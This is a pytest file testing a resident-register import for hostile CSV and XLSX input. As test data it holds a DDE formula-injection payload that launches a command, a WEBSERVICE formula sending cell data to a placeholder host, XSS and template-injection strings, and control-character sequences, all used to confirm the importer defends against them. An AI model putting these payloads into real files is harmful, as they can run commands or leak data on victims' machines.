"""Hostile resident files through the whole import (file -> validation -> register -> report).

Every row ends exactly one way: in the register with the values of its cells, or in the
report with a reason; never half of it, never a crash.  Odd encodings are read right or
refused with a message naming the file; the report written back never carries a live
spreadsheet formula; limits (cell length, header length, columns listed) are exercised with
inputs past them.
"""

from __future__ import annotations

import csv
import datetime as dt
import itertools
import re
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from station.home.context import Station, open_station
from station.register.importing.bulk import import_file, report_cell
from station.register.importing.files import MAX_HEADER_CHARS, ImportFormatError
from station.register.importing.rows import MAX_FIELD_CHARS
from station.register.nik import build_nik
from station.store.models import Resident

TODAY = dt.date(2026, 1, 1)
HEADER = ["NIK", "No KK", "Nama", "Tanggal Lahir", "Jenis Kelamin", "Alamat", "Agama"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_serials = itertools.count(1)


def new_row(name: str = "Budi Santoso", address: str = "Jl. Timor Raya 5") -> list[str]:
    """A good row with a NIK no other row of the test session has."""
    n = next(_serials)
    born = dt.date(1950, 1, 1) + dt.timedelta(days=n // 9000)
    nik = build_nik("537103", born, "L", n % 9000 + 1)
    return [nik, "5371030101100001", name, born.strftime("%d-%m-%Y"), "L", address, "KRISTEN"]


def write(path: Path, rows: list[list[str]], encoding: str = "utf-8", header=HEADER) -> Path:
    with path.open("w", newline="", encoding=encoding) as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def run(station: Station, path: Path):  # type: ignore[no-untyped-def]
    return import_file(station.db, station.office_id, path, operator="admin", today=TODAY)


def stored(station: Station, nik: str) -> Resident | None:
    with station.db.read() as session:
        return session.scalar(select(Resident).where(Resident.nik == nik))


def report_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


@pytest.fixture(scope="module")
def sqlite_station(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Station]:
    """One SQLite station for the module: every test uses NIKs no other test uses."""
    from station.home.context import init_station

    home = tmp_path_factory.mktemp("import") / "home"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("STATION_HOME", str(home))
        patch.delenv("STATION_DATABASE_URL", raising=False)
        init_station(home)
        station = open_station(home)
        try:
            yield station
        finally:
            station.close()


# --- encodings ------------------------------------------------------------------------------

ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252", "latin-1"]


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_every_usual_encoding_gives_the_same_names(
    sqlite_station: Station, tmp_path: Path, encoding: str
) -> None:
    """UTF-16 without a BOM used to be read as UTF-8: cells full of NULs (regression)."""
    rows = [new_row("José Fernández"), new_row("Ñoño Çelik")]
    result = run(sqlite_station, write(tmp_path / "data.csv", rows, encoding))
    assert (result.imported, result.rejected) == (2, 0), result.rejections
    assert stored(sqlite_station, rows[0][0]).name == "JOSÉ FERNÁNDEZ"  # type: ignore[union-attr]
    assert stored(sqlite_station, rows[1][0]).name == "ÑOÑO ÇELIK"  # type: ignore[union-attr]


def test_mixed_utf8_and_cp1252_is_refused_whole(sqlite_station: Station, tmp_path: Path) -> None:
    """Rows pasted from two sources: no single reading gets every name right (regression:
    the file was read as cp1252 and the UTF-8 names were stored as 'JOSÃ‰')."""
    path = tmp_path / "campur.csv"
    one, two = new_row("José"), new_row("Renée")
    path.write_bytes(
        (",".join(HEADER) + "\r\n" + ",".join(one) + "\r\n").encode("utf-8")
        + (",".join(two) + "\r\n").encode("cp1252")
    )
    with pytest.raises(ImportFormatError, match=r"campur\.csv.*UTF-8"):
        run(sqlite_station, path)
    assert stored(sqlite_station, one[0]) is None and stored(sqlite_station, two[0]) is None


def test_bytes_that_are_no_text_are_refused_or_rejected(
    sqlite_station: Station, tmp_path: Path
) -> None:
    path = tmp_path / "acak.csv"
    path.write_bytes(b"\x81\x8d\x8f\x90\x9d\x00\xff" * 50)
    with pytest.raises(ImportFormatError, match=r"acak\.csv"):
        run(sqlite_station, path)


# --- cells no register may hold ---------------------------------------------------------------


@pytest.mark.parametrize(
    "bad", ["\x1b@BUDI", "BUDI\x1dV\x00", "\u202eIDUB", "BU\u2066DI", "\x7f", "A\x9bB"]
)
def test_control_and_bidi_characters_reject_the_row(
    sqlite_station: Station, tmp_path: Path, bad: str
) -> None:
    """ESC/GS and bidi overrides were stored as they came (regression)."""
    good, hostile = new_row(), new_row(name=bad)
    result = run(sqlite_station, write(tmp_path / "r.csv", [good, hostile]))
    assert (result.imported, result.rejected) == (1, 1)
    assert "karakter kontrol" in result.rejections[0].reason
    assert "Nama" in result.rejections[0].reason
    assert stored(sqlite_station, good[0]) is not None
    assert stored(sqlite_station, hostile[0]) is None


def test_nul_rejects_the_row_on_both_databases(station_home: Path, tmp_path: Path) -> None:
    """NUL reached the register, and on PostgreSQL failed the whole batch (regression)."""
    station = open_station(station_home)
    try:
        good, hostile = new_row(), new_row(name="BUDI\x00")
        result = run(station, write(tmp_path / "r.csv", [good, hostile]))
        assert (result.imported, result.rejected) == (1, 1)
        assert "karakter kontrol" in result.rejections[0].reason
        assert stored(station, good[0]) is not None and stored(station, hostile[0]) is None
    finally:
        station.close()


def test_nul_in_the_nik_cell_is_never_stored(sqlite_station: Station, tmp_path: Path) -> None:
    row = new_row()
    nik = row[0]
    row[0] = nik + "\x00"
    result = run(sqlite_station, write(tmp_path / "r.csv", [row]))
    assert result.rejected == 1 and result.rejections[0].nik == nik
    with sqlite_station.db.read() as session:
        assert session.scalar(select(func.count()).where(Resident.nik.like(f"{nik}%"))) == 0


# --- size limits ------------------------------------------------------------------------------


def test_ten_megabyte_cell_is_refused_with_a_message(
    sqlite_station: Station, tmp_path: Path
) -> None:
    rows = [new_row(), new_row(address="A" * 10_000_000), new_row()]
    result = run(sqlite_station, write(tmp_path / "besar.csv", rows))
    assert (result.imported, result.rejected) == (2, 1)
    assert f"lebih dari {MAX_FIELD_CHARS} karakter" in result.rejections[0].reason
    assert result.rejections[0].row_number == 3
    assert stored(sqlite_station, rows[1][0]) is None


def test_cell_past_the_csv_limit_stops_the_file_naming_the_row(
    sqlite_station: Station, tmp_path: Path
) -> None:
    rows = [new_row(address="B" * (1 << 24) + "B")]
    with pytest.raises(ImportFormatError, match=r"raksasa\.csv rusak sekitar baris"):
        run(sqlite_station, write(tmp_path / "raksasa.csv", rows))
    assert stored(sqlite_station, rows[0][0]) is None


def test_header_without_a_line_end_is_refused(sqlite_station: Station, tmp_path: Path) -> None:
    path = tmp_path / "satu-baris.csv"
    path.write_text("NIK," + "x" * MAX_HEADER_CHARS, encoding="utf-8")
    with pytest.raises(ImportFormatError, match=r"satu-baris\.csv: baris judul lebih dari"):
        run(sqlite_station, path)


def test_thousands_of_columns(sqlite_station: Station, tmp_path: Path) -> None:
    extra = [f"Kolom{i}" for i in range(5000)]
    rows = [[*new_row(), *map(str, range(5000))], new_row()]  # the second row is short
    result = run(sqlite_station, write(tmp_path / "lebar.csv", rows, header=[*HEADER, *extra]))
    assert (result.imported, result.rejected) == (2, 0)
    (note,) = result.notes
    assert note.startswith("Kolom tidak dikenal diabaikan: Kolom0, Kolom1")
    assert "(dan 4980 kolom lain)" in note and len(note) < 500


# --- the report written back -----------------------------------------------------------------

FORMULAS = ["=cmd|' /C calc'!A0", "+62 1+1", "-2+3", "@SUM(A1:A9)", '=HYPERLINK("x")']


@pytest.mark.parametrize("formula", FORMULAS)
def test_report_cells_never_start_a_formula(
    sqlite_station: Station, tmp_path: Path, formula: str
) -> None:
    row = new_row()
    row[0] = formula  # the NIK cell: echoed into the report's nik column
    kk_bad = new_row()
    kk_bad[1] = formula
    result = run(sqlite_station, write(tmp_path / "f.csv", [row, kk_bad]))
    assert result.rejected == 2 and result.report is not None
    for line in report_rows(result.report)[1:]:
        for cell in line:
            assert not cell.startswith(FORMULA_START), line
    if not formula.startswith("-"):  # a leading '-' is dropped from a NIK as a separator
        assert report_rows(result.report)[1][1].startswith("'")


@given(text=st.text(max_size=30))
def test_report_cell_keeps_text_and_disarms_formulas(text: str) -> None:
    cell = report_cell(text)
    assert not cell.startswith(FORMULA_START)
    assert cell in (text, "'" + text)


def test_formula_looking_names_are_stored_as_text(sqlite_station: Station, tmp_path: Path) -> None:
    row = new_row(name="=1+1")
    result = run(sqlite_station, write(tmp_path / "n.csv", [row]))
    assert result.imported == 1
    assert stored(sqlite_station, row[0]).name == "=1+1"  # type: ignore[union-attr]


# --- any mixture: each row all-or-nothing ------------------------------------------------------

HOSTILE = {
    # kind -> (cell text, imported?)
    "plain": ("Jl. Timor Raya", True),
    "formula": ("=cmd|' /C calc'!A0", True),
    "template": ("{{ 7*7 }} {% if 1 %}x{% endif %}", True),
    "markup": ("<script>alert(1)</script> [b]x[/b]", True),
    "newline": ("Jl. A\nRT 1", True),
    "nul": ("Jl.\x00A", False),
    "esc": ("\x1b@\x1dV\x00", False),
    "ansi": ("\x1b[31mMERAH\x1b[0m", False),
    "bidi": ("\u202eayaR romiT", False),
    "huge": ("X" * (MAX_FIELD_CHARS + 1), False),
}


@st.composite
def hostile_files(draw: st.DrawFn) -> tuple[list[list[str]], list[bool], str]:
    rows, expected = [], []
    for _ in range(draw(st.integers(1, 6))):
        kind = draw(st.sampled_from(sorted(HOSTILE)))
        text, ok = HOSTILE[kind]
        row = new_row(address=text)
        if draw(st.booleans()):
            row = row + ["sisa"] * draw(st.integers(1, 3))  # ragged: extra cells are ignored
        elif draw(st.integers(0, 4)) == 0:
            row = row[:4]  # ragged: sex missing -> rejected
            ok = False
        rows.append(row)
        expected.append(ok)
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le"]))
    return rows, expected, encoding


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(case=hostile_files())
def test_every_row_is_imported_whole_or_rejected_whole(
    sqlite_station: Station, tmp_path: Path, case: tuple[list[list[str]], list[bool], str]
) -> None:
    rows, expected, encoding = case
    path = write(tmp_path / "campuran.csv", rows, encoding)
    result = run(sqlite_station, path)
    assert result.rows == len(rows)
    assert result.imported == sum(expected) and result.rejected == len(rows) - sum(expected)
    for row, ok in zip(rows, expected, strict=True):
        resident = stored(sqlite_station, row[0])
        if not ok:
            assert resident is None
            continue
        assert resident is not None
        assert resident.name == row[2].upper()
        assert resident.birth_date.strftime("%d-%m-%Y") == row[3]
        assert resident.address == " ".join(row[5].split())
        assert resident.religion == "KRISTEN"
        assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e]", resident.address)
    if result.report is not None:
        for line in report_rows(result.report)[1:]:
            assert not any(cell.startswith(FORMULA_START) for cell in line)


# --- XLSX ------------------------------------------------------------------------------------


def test_xlsx_formulas_are_never_evaluated(sqlite_station: Station, tmp_path: Path) -> None:
    """A formula cell gives the value Excel saved (none here): the NIK is empty, the row is
    rejected, and the formula text is not what gets stored anywhere."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    good = new_row()
    sheet.append(good)
    formula = new_row()
    formula[0] = '=WEBSERVICE("http://example.invalid/?"&B3)'
    formula[2] = "=1+1"
    sheet.append(formula)
    sheet.append([*new_row(), *["x"] * 3000])  # a wide row
    path = tmp_path / "rumus.xlsx"
    book.save(path)
    with sqlite_station.db.read() as session:
        before = session.scalar(select(func.count()).select_from(Resident))
    result = run(sqlite_station, path)
    assert (result.imported, result.rejected) == (2, 1)
    assert "NIK kosong" in result.rejections[0].reason
    with sqlite_station.db.read() as session:
        assert session.scalar(select(func.count()).select_from(Resident)) == before + 2
    assert stored(sqlite_station, good[0]).name == "BUDI SANTOSO"  # type: ignore[union-attr]


@settings(max_examples=20, deadline=None)
@given(raw=st.binary(max_size=2000))
def test_any_bytes_named_xlsx_are_refused_with_the_file_name(raw: bytes) -> None:
    import tempfile

    from station.register.importing.files import ImportReader

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "palsu.xlsx"
        path.write_bytes(b"PK\x03\x04" + raw if raw[:1] == b"\x00" else raw)
        try:
            with ImportReader(path) as reader:
                list(reader)
        except ImportFormatError as exc:
            assert "palsu.xlsx" in str(exc)
